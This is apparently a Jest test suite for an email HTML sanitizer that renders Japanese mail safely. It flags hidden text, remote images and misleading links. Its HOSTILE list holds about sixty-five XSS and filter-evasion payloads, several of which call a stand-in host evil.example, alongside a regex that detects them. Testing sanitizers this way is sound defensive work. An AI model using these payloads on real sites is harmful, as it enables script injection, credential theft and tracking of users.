import { afterAll, describe, expect, it } from '@jest/globals';
import { bodyOf, found, lookOf, mailOf, pool, seen } from './sent-look.fixture.js';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

afterAll(() => pool.close());

/** What no page may hold, whatever a mail brings. The frame's own style sheet is not looked at. */
const FORBIDDEN =
  /<(?!\/?(?:p|div|span|br|b|i|u|a|td|tr|table|tbody|img|h1|hr|li|ul|bdi|font|pre|strong|em|center)\b)[a-z!?/]|\son[a-z]+\s*=|<[^>]*(?:javascript|vbscript|data:text)[^>]*>|<[^>]*(?:url\s*\(|expression|@import|position\s*:|behavior)|<[^>]*\s(?:href|srcdoc|action|formaction|srcset|id|class="(?!m-)|target|ping)\s*=|src="(?!data:image\/(?:png|jpeg|gif|webp);base64,)/i;

/** Vectors after the OWASP filter evasion list, and what mails in particular try. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>よむ',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>よむ',
  '<scr<script>ipt>alert(1)</scr</script>ipt>よむ',
  '<script/x>alert(1)</script>よむ',
  '<<script>alert(1);//<</script>よむ',
  '<img src=x onerror=alert(1)>よむ',
  '<img src="javascript:alert(1)">よむ',
  '<img src=`javascript:alert(1)`>よむ',
  '<img """><script>alert(1)</script>">よむ',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">よむ',
  '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">よむ',
  '<img src="https://evil.example/t.gif" srcset="https://evil.example/2.gif 2x">よむ',
  '<img/src/onerror=alert(1)>よむ',
  '<a href="javascript:alert(1)">よむ</a>',
  '<a href="jav&#x09;ascript:alert(1)">よむ</a>',
  '<a href=" &#14; javascript:alert(1)">よむ</a>',
  '<a href="java\0script:alert(1)">よむ</a>',
  '<a href="data:text/html,<script>alert(1)</script>">よむ</a>',
  '<a href="vbscript:msgbox(1)">よむ</a>',
  '<a onmouseover="alert(1)">よむ</a>',
  '<a href="https://a.example/" target="_blank" ping="https://evil.example/">よむ</a>',
  '<body onload=alert(1) background="https://evil.example/b.gif">よむ</body>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>よむ',
  '<svg><style><img src=x onerror=alert(1)></style></svg>よむ',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>よむ',
  '<iframe src="https://evil.example/"></iframe>よむ',
  '<iframe srcdoc="<script>alert(1)</script>"><script>alert(1)</script></iframe>よむ',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">よむ',
  '<applet code=x></applet>よむ',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=dns-prefetch href="//evil.example">よむ',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">よむ',
  '<base href="https://evil.example/">よむ',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/)}</style>よむ',
  '<div style="background:url(https://evil.example/b.png)">よむ</div>',
  '<div style="background-image:\\75rl(https://evil.example/b.png)">よむ</div>',
  '<div style="width:expression(alert(1))">よむ</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#a)">よむ</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;z-index:9">よむ</div>',
  '<div style="color:red}body{position:fixed">よむ</div>',
  '<div style="color:red;/*;*/position:absolute">よむ</div>',
  '<form action="https://evil.example/"><input name=p type=password><button formaction="javascript:alert(1)">よむ</button></form>',
  '<video poster="https://evil.example/p.png"><source src="https://evil.example/v" onerror=alert(1)></video>よむ',
  '<audio src="https://evil.example/a" autoplay></audio>よむ',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>よむ',
  '<textarea><img src=x onerror=alert(1)></textarea>よむ',
  '<title><img src=x onerror=alert(1)></title>よむ',
  '<xmp><script>alert(1)</script></xmp>よむ',
  '<plaintext>よむ<script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->よむ',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->よむ',
  '<![CDATA[<script>alert(1)</script>]]>よむ',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>よむ',
  '<p id="x" class="m-hidden" name="y" tabindex=1 contenteditable autofocus onfocus=alert(1)>よむ</p>',
  '<p data-out="o" data-to="https://evil.example/">よむ</p>',
  '<span data-out="o&quot;&gt;&lt;script&gt;"></span>よむ',
  '<a href="https://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">よむ</a>',
  '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://evil.example/">よむ',
  '<img alt="$&amp;$1" src="cid:none">よむ',
  '</body></html><script>alert(1)</script>よむ',
  '</span></div></body><p onclick=alert(1)>よむ',
  '<p style="font-family:\'</style><script>alert(1)</script>\'">よむ</p>',
  '<template><script>alert(1)</script></template>よむ',
  '<marquee onstart=alert(1)>よむ</marquee>',
  '<details open ontoggle=alert(1)>よむ</details>',
  '<x-own onclick=alert(1)>よむ</x-own>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-よむ',
];

describe('the look of a hostile mail', () => {
  it.each(HOSTILE)('keeps the words of %s and nothing that loads, runs or leads anywhere', async (html) => {
    const body = await seen(html);
    expect(body).toContain('よむ');
    expect(FORBIDDEN.exec(body)).toBeNull();
  });

  it.each(['<img src="x" onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>', '<script>x</script>'])(
    'would be found out: %s',
    (html) => {
      expect(FORBIDDEN.exec(html)).not.toBeNull();
    },
  );

  it('flattens a hundred thousand nested elements or leaves the whole unshown, and ends', async () => {
    const nested = await lookOf(mailOf(`${'<div>'.repeat(20_000)}よむ`));
    expect([nested.isShown, bodyOf(nested).includes('よむ')]).toEqual([true, true]);
    expect((bodyOf(nested).match(/<div>/g) ?? []).length).toBeLessThan(200);
    expect(await lookOf(mailOf(`${'<div>'.repeat(100_000)}よむ`))).toMatchObject({ isShown: false, page: '' });
    expect(await lookOf(mailOf('よ'.repeat(4_000_000)))).toMatchObject({ isShown: false, page: '' });
    const wrongEnds = await lookOf(mailOf(`${'<b>'.repeat(24_000)}${'</i>'.repeat(24_000)}よむ`));
    expect(wrongEnds.isShown).toBe(true);
  });
});

describe('the look of an honest mail', () => {
  it('keeps weight, colour, tables and lists', async () => {
    expect(await seen('<p style="color:#c00;font-weight:bold;float:left">重要</p>')).toBe(
      '<p style="color:#c00;font-weight:bold">重要</p>',
    );
    const table = '<table border="1" width="100%"><tr><td align="right" bgcolor="#eeeeee">1,200円</td></tr></table>';
    expect(await seen(table)).toBe(table);
  });

  it('says where a link leads when its words do not, as browsers understand the address', async () => {
    expect(await seen('<a href="https://evil.example/login">https://bank.example/</a>')).toBe(
      '<span class="m-link">https://bank.example/</span> <bdi class="m-address">［https://evil.example/login］</bdi>',
    );
    expect(await seen('<a href="https://bank.example/">bank.example</a>')).toBe(
      '<span class="m-link">bank.example</span>',
    );
    expect(await seen('<a href="https://xn--80ak6aa92e.example/а">x</a>')).toContain(
      '［https://xn--80ak6aa92e.example/%D0%B0］',
    );
    expect(await seen('<a href="mailto:a@example.jp"><b>返信</b></a>')).toContain('［mailto:a@example.jp］');
  });

  it('puts a place with its words where a picture from elsewhere would stand, and counts those', async () => {
    const look = await lookOf(
      mailOf(
        '<img src="https://a.example/1.png" alt="地図"><img src="//a.example/2.gif"><td background="https://a/b.png">',
      ),
    );
    expect(look).toMatchObject({ picturesOutside: 3, picturesMissing: 0 });
    expect(bodyOf(look)).toContain('<span class="m-picture">［外部の画像：地図］</span>');
    expect(look.page).not.toContain('a.example');
  });

  it('shows the pictures that the mail brings, and only what is a picture', async () => {
    const related = (id: string, bytes: Buffer, type = 'image/png'): string =>
      `--b\r\nContent-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${bytes.toString('base64')}\r\n`;
    const html = '<img src="cid:Pic%401"><img src="cid:vector"><img src="cid:gone" alt="印影"><img src="cid:big">';
    const mail = mailOf(
      `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n` +
        related('pic@1', PNG) +
        related('vector', Buffer.from('<svg onload="alert(1)"/>'), 'image/svg+xml') +
        related('big', Buffer.concat([PNG, Buffer.alloc(3 * 1024 * 1024)])) +
        '--b--\r\n',
      'multipart/related; boundary=b',
    );
    const look = await lookOf(mail);
    expect(look).toMatchObject({ picturesOutside: 0, picturesMissing: 3 });
    expect(bodyOf(look)).toContain(`<img src="data:image/png;base64,${PNG.toString('base64')}" alt="" />`);
    expect(bodyOf(look)).toContain('［表示できない画像：印影］');
  });

  it('sends a picture that stands there a thousand times only until the bound', async () => {
    const picture = Buffer.concat([PNG, Buffer.alloc(1024 * 1024)]).toString('base64');
    const mail = mailOf(
      `--b\r\nContent-Type: text/html\r\n\r\n${'<img src="cid:a">'.repeat(1000)}\r\n--b\r\nContent-Type: image/png\r\n` +
        `Content-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n${picture}\r\n--b--\r\n`,
      'multipart/related; boundary=b',
    );
    const look = await lookOf(mail);
    expect(look.picturesMissing).toBeGreaterThan(990);
    expect(look.page.length).toBeLessThan(10 * 1024 * 1024);
  });

  it.each([
    ['<div style="display:none">かくす</div>'],
    ['<div style="DISPLAY : none !important">かくす</div>'],
    ['<p style="color:#fff">かくす</p>'],
    ['<font color="#FEFEFE">かくす</font>'],
    ['<table bgcolor="#003366"><tr><td><span style="color:#036">かくす</span></td></tr></table>'],
    ['<span style="font-size:1px">かくす</span>'],
    ['<span style="font-size:0">か<b>くす</b></span>'],
    ['<div style="max-height:0;overflow:hidden">かくす</div>'],
    ['<div style="position:absolute;left:-9999px">かくす</div>'],
    ['<p style="opacity:0">かくす</p>'],
    ['<p style="color:transparent">かくす</p>'],
    ['<p style="color:rgba(0,0,0,.02)">かくす</p>'],
    ['<p hidden>かくす</p>'],
  ])('tells of text that its sender hid, and shows it in a frame: %s', async (html) => {
    const look = await lookOf(mailOf(`<p>みえる</p>${html}`));
    expect(look.hasHiddenText).toBe(true);
    expect(bodyOf(look)).toContain('<p>みえる</p>');
    expect(bodyOf(look)).toContain('<span class="m-hidden">か');
  });

  it.each([
    ['<div style="background:#003366;color:#fff">みえる</div>'],
    ['<table><tr bgcolor="navy"><td><font color="white">みえる</font></td></tr></table>'],
    ['<div style="font-size:0"><span style="font-size:14px">みえる</span></div>'],
    ['<div style="display:none">&zwnj;&nbsp;&#847;</div>みえる'],
    ['<body bgcolor="#000000" text="#ffffff">みえる</body>'],
    ['<p style="color:#767676">みえる</p>'],
    ['<p style="color:var(--x)">みえる</p>'],
  ])('calls nothing hidden that can be seen: %s', async (html) => {
    const look = await lookOf(mailOf(html));
    expect([look.hasHiddenText, bodyOf(look).includes('みえる')]).toEqual([false, true]);
  });

  it('lays white words that stood on a picture on a dark ground, for the picture is not shown', async () => {
    const look = await lookOf(
      mailOf('<table><tr><td background="https://a.example/b.png" style="color:#fff">みえる</td></tr></table>'),
    );
    expect(look).toMatchObject({ hasHiddenText: false, picturesOutside: 1 });
    expect(bodyOf(look)).toContain('<span class="m-dark">みえる</span>');
  });

  it('reads HTML in ISO-2022-JP, and in Shift_JIS that only the HTML itself names', async () => {
    const jis = Buffer.from('3c703e1b2442244a1b28423c2f703e', 'hex');
    expect(bodyOf(await lookOf(mailOf(jis, 'text/html; charset=iso-2022-jp')))).toBe('<p>な</p>');
    const sjis = Buffer.concat([
      Buffer.from('<meta charset=Shift_JIS><p>'),
      Buffer.from('92CA904D8EE896408AC48E8B82B382EA82C482A282E9', 'hex'),
      Buffer.from('</p>'),
    ]);
    expect(bodyOf(await lookOf(mailOf(sjis, 'text/html')))).toContain('通信');
  });

  it('finds HTML that calls itself plain text, and none in plain text, in files or in forwarded mail', async () => {
    expect(await seen('<html><body><p>よむ</p></body></html>')).toBe('<div><p>よむ</p></div>');
    expect(
      bodyOf(await lookOf(mailOf('<html><body><b>よむ</b></body></html>', 'text/plain; charset=utf-8'))),
    ).toContain('<b>よむ</b>');
    expect(await found(mailOf('a < b <b>c</b>', 'text/plain'))).toBeNull();
    expect(
      await found(mailOf('<p>x</p>', 'text/html', 'Content-Disposition: attachment; filename=a.html\r\n')),
    ).toBeNull();
    expect(await found(mailOf(mailOf('<p>x</p>'), 'message/rfc822'))).toBeNull();
    expect(await found(Buffer.alloc(0))).toBeNull();
  });

  it('names the language of the letter, and says nothing of the mail in its title', async () => {
    expect((await lookOf(mailOf('<p>The line is dead.</p>'))).page).toContain('<html lang="en">');
    expect((await lookOf(mailOf('<p>1</p>'))).page).toContain('<html lang="ja">');
    expect((await lookOf(mailOf('<title>秘密</title><p>1</p>'))).page).toContain('<title>メール</title>');
  });
});
